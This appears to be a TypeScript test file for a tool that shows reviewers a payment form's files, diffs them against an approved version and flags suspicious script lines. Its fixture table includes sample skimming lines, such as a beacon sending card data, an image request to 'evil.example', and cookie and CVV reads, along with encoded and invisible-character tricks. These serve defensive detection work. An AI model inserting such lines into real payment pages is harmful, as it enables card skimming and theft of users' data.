import assert from 'node:assert/strict'
import { test } from 'node:test'
import { contentDigest, type FormContent, readCode } from './form-code.ts'

const form = (files: Readonly<Record<string, string>>, template = '<p>Pay</p>'): FormContent => ({
  template,
  files: Object.entries(files).map(([path, text]) => ({ path, content: Buffer.from(text) })),
})

test('a reviewer sees the text of every file, and size and digest of binary files', () => {
  const [page, picture, script] = readCode(form({ 'img/a.png': '\u0000', 'js/a.js': 'begin()\n' }), null)
  assert.deepEqual([page?.path, page?.text, page?.change], ['index.html', '<p>Pay</p>', null])
  assert.deepEqual([picture?.text, picture?.bytes, picture?.sha256.length], [null, 1, 64])
  assert.equal(script?.text, 'begin()\n')
})

test('compared with the approved version, files are added, removed, changed line by line, or the same', () => {
  const approved = form({ 'js/a.js': 'one\ntwo\n', 'js/gone.js': 'bye\n', 'js/same.js': 'same\n' })
  const read = readCode(form({ 'js/a.js': 'one\n2\n', 'js/new.js': 'hello\n', 'js/same.js': 'same\n' }), approved)
  assert.deepEqual(
    read.map(({ path, change }) => [path, change]),
    [
      ['index.html', 'same'],
      ['js/a.js', 'changed'],
      ['js/new.js', 'added'],
      ['js/same.js', 'same'],
      ['js/gone.js', 'removed'],
    ],
  )
  assert.deepEqual(
    read[1]?.diff?.map(({ kind, text }) => [kind, text]),
    [
      ['same', 'one'],
      ['removed', 'two'],
      ['added', '2'],
    ],
  )
})

test('the digest changes with any byte or name, but not with the order of files', () => {
  const digest = contentDigest(form({ 'js/a.js': 'a', 'js/b.js': 'b' }))
  assert.equal(contentDigest(form({ 'js/b.js': 'b', 'js/a.js': 'a' })), digest)
  const others = [
    form({ 'js/a.js': 'a', 'js/b.js': 'B' }),
    form({ 'js/a.js': 'a', 'js/c.js': 'b' }),
    form({ 'js/a.js': 'a', 'js/b.js': 'b' }, '<p>pay</p>'),
  ]
  assert.equal(new Set([digest, ...others.map(contentDigest)]).size, 4)
})

// biome-ignore format: a table is read in columns.
const suspicious = [
  ["fetch('/admin/api/session')",                        /panel.*sends a request/],
  ["new Image().src = 'https://evil.example/?' + number", /another address/],
  ["const u = '//evil.example'",                         /another address/],
  ['eval(text)',                                         /text as code/],
  ["setTimeout('steal()', 1)",                           /text as code/],
  ['document.cookie',                                    /cookies/],
  ['localStorage.setItem(a, b)',                         /in the browser/],
  ["navigator.sendBeacon(u, card)",                      /sends a request/],
  ["document.createElement('iframe')",                   /frame/],
  ["atob('aHR0cHM6Ly8=')",                               /contains encoded text/],
  ["window['fetch'](u)",                                 /hides a name/],
  ["find('payer_card').value",                           /card data/],
  ['const { value } = payer_cvv',                        /card data/],
  ['new Function(text)',                                 /text as code/],
  ['new XMLHttpRequest()',                               /sends a request/],
  ['new EventSource(u)',                                 /sends a request/],
  ['new WebSocket(u)',                                   /opens a connection/],
  ['cookieStore.getAll()',                               /cookies/],
  ['navigator.serviceWorker.register(u)',                /starts a worker/],
  ['new SharedWorker(u)',                                /starts a worker/],
  ['window.parent.postMessage(card)',                    /other windows/],
  ['window . open(u)',                                   /opens a window/],
  ['box.innerHTML = text',                               /text as HTML/],
  ['await import(u)',                                    /loads code dynamically/],
  ['String.fromCharCode(104, 116)',                      /encoded text/],
  ["'\\x68\\x74\\x74\\x70'",                             /encoded text/],
  ["'\\u0068\\u0074\\u0074\\u0070'",                     /encoded text/],
  ["@import 'a.css'",                                    /style or picture from elsewhere/],
  ['.a { background: url(//evil.example/?x) }',          /style or picture from elsewhere/],
  ['if (ok) { // \u202e begin',                           /invisible/],
  ['x'.repeat(2000),                                     /too long/],
] as const

for (const [line, finding] of suspicious)
  test(`a reviewer is warned of the line: ${line.slice(0, 60)}`, () => {
    const [, script] = readCode(form({ 'js/a.js': `begin()\n${line}\n` }), null)
    assert.deepEqual(
      script?.findings.map(({ path, line: at }) => [path, at]),
      [['js/a.js', 2]],
    )
    assert.match(script?.findings[0]?.text ?? '', finding)
  })

test('plain code has no findings', () => {
  const [, script] = readCode(
    form({ 'js/a.js': "const say = (text) => {\n  find('notice').textContent = text\n}\n" }),
    null,
  )
  assert.deepEqual(script?.findings, [])
})

test('invisible characters are shown by their code points', () => {
  const [, script] = readCode(form({ 'js/a.js': '// note\u2028steal()\n' }), null)
  assert.equal(script?.text, '// note⟨U+2028⟩steal()\n')
})
